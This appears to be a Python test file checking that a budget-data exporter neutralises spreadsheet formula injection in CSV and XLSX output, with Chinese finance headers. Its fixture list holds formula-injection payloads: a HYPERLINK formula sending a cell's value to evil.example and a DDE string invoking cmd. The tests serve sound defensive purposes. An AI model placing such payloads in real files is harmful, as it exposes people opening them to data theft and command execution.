"""Exports open safely in a spreadsheet: no cell that a spreadsheet would run as a formula (issue 11, item 7)."""

from __future__ import annotations

import csv

from openpyxl import load_workbook

from app.export import check_rows, figure_rows, reason_rows, write
from core.schemas import CheckResult, Citation, DocRecord, DocType, Figure, Reason

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=1+1"]


def _rows() -> list[dict]:
    record = DocRecord(doc_id="d" * 16, source="=evil().txt", path="/x", unit="@某单位", year=2024,
                       doc_type=DocType.budget)
    figures = []
    for i, text in enumerate(HOSTILE):
        c = Citation(doc_id=record.doc_id, source=record.source, char_start=0, char_end=len(text), quote=text)
        figures.append(Figure(key=f"k{i}", value="-3.10", unit="万元", citation=c, label=text, table=text))
    return figure_rows([(record, figures)])


def _neutral(cell) -> bool:
    s = "" if cell is None else str(cell)
    return not s or s[0] not in "=+-@\t\r" or s.lstrip("-").replace(".", "", 1).isdigit()


def test_formula_like_cells_are_neutralised_numbers_are_not_csv(tmp_path):
    path = write(_rows(), "csv", tmp_path / "f.csv")
    rows = list(csv.DictReader(path.open(encoding="utf-8-sig", newline="")))
    cells = [v for r in rows for v in r.values()]
    assert all(_neutral(c) for c in cells), [c for c in cells if not _neutral(c)]
    assert [r["value"] for r in rows] == ["-3.10"] * len(HOSTILE)  # a negative number stays a number as printed
    assert rows[0]["label"] == "'" + HOSTILE[0]  # the text is kept, behind a quote
    assert rows[0]["source"] == "'=evil().txt" and rows[0]["unit_name"] == "'@某单位"


def _sheet(ws) -> list[dict]:
    header = [c.value for c in ws[1]]
    return [dict(zip(header, [c.value for c in r], strict=True)) for r in ws.iter_rows(min_row=2)]


def test_formula_like_cells_are_neutralised_in_every_sheet_numbers_are_numbers(tmp_path):
    record = DocRecord(doc_id="d" * 16, source="=evil().txt", path="/x", unit="@某单位", year=2024,
                       doc_type=DocType.budget)
    c = Citation(doc_id=record.doc_id, source=record.source, char_start=0, char_end=5, quote=HOSTILE[0])
    checks = check_rows([(record, [CheckResult(rule="r", description=HOSTILE[1], status="fail", message=HOSTILE[3],
                                               expected="-1.00", actual="2.00", citations=[c])])])
    reasons = reason_rows([(record, [Reason(reason=HOSTILE[6], sentence=HOSTILE[0], label="=x", citation=c)])])
    path = write(_rows(), "xlsx", tmp_path / "f.xlsx", checks=checks, reasons=reasons)
    wb = load_workbook(path)
    assert wb.sheetnames == ["数字", "核查", "原因说明"]
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)  # no formula cell at all
    assert all(_neutral(c.value) for c in cells), [c.value for c in cells if not _neutral(c.value)]
    figures = _sheet(wb["数字"])
    assert [r["原文数值"] for r in figures] == [-3.1] * len(HOSTILE)  # a negative number stays a number
    assert figures[0]["行标签"] == "'" + HOSTILE[0] and figures[0]["单位名称"] == "'@某单位"
    assert figures[0]["文件"] == "'=evil().txt" and figures[0]["文件类型"] == "部门预算"
    check = _sheet(wb["核查"])[0]
    assert check["结果"] == "错误" and check["核验项"] == "'" + HOSTILE[1] and check["应为"] == -1
    assert _sheet(wb["原因说明"])[0]["原因"] == "'" + HOSTILE[6]


def test_the_workbook_is_what_finance_staff_can_use(tmp_path):
    """Numbers as numbers that SUM adds, a 万元 column beside the value and unit as printed, Chinese headers."""
    record = DocRecord(doc_id="e" * 16, source="000_04b2af8a0d084766.txt", path="/x", unit="某局", year=2024,
                       doc_type=DocType.final_accounts)
    c = Citation(doc_id=record.doc_id, source=record.source, char_start=0, char_end=1, quote="x", line_start=3)
    figures = [Figure(key="official_reception", value="3300.00", unit="元", citation=c),
               Figure(key="three_public_actual", value="31.19", unit="万元", citation=c),
               Figure(key="vehicles_total", value="11", unit="辆", citation=c),
               Figure(key="project:监管经费:execution_rate", value="99.18", unit="%", citation=c)]
    path = write(figure_rows([(record, figures)]), "xlsx", tmp_path / "f.xlsx")
    rows = _sheet(load_workbook(path)["数字"])
    assert [r["指标"] for r in rows] == ["公务接待费", "财政拨款“三公”经费支出", "车辆总数", "监管经费 执行率"]
    assert [r["数值（万元）"] for r in rows] == [0.33, 31.19, None, None]  # 元 converted; counts and rates are not money
    assert [(r["原文数值"], r["原文单位"]) for r in rows] == [(3300, "元"), (31.19, "万元"), (11, "辆"), (99.18, "%")]
    assert all(isinstance(r["数值（万元）"], (int, float)) for r in rows[:2])
    assert rows[0]["文件"] is None and rows[0]["起始行"] == 3  # a hash-made file name is not shown
    assert rows[0]["指标代码"] == "official_reception"  # the key kept, last, for whoever maps them back


def test_the_service_exports_three_sheets_for_the_archive(archive_service, tmp_path):
    path, n = archive_service.export("xlsx", tmp_path / "all.xlsx")
    wb = load_workbook(path)
    assert wb.sheetnames == ["数字", "核查", "原因说明"] and wb["数字"].max_row == n + 1
    figures = _sheet(wb["数字"])
    money = [r["数值（万元）"] for r in figures if r["原文单位"] in ("万元", "元")]
    assert money and all(isinstance(v, (int, float)) for v in money)
    assert any(r["指标"] == "财政拨款“三公”经费支出" and r["数值（万元）"] == 31.19 for r in figures)
    checks = _sheet(wb["核查"])
    assert {r["结果"] for r in checks} <= {"错误", "提示", "通过", "跳过"} and "错误" in {r["结果"] for r in checks}
    reasons = _sheet(wb["原因说明"])
    assert any("过紧日子" in (r["原因"] or "") for r in reasons)


def test_json_export_keeps_the_text_as_it_is(tmp_path):
    import json

    path = write(_rows(), "json", tmp_path / "f.json")
    assert [r["label"] for r in json.loads(path.read_text(encoding="utf-8"))] == HOSTILE
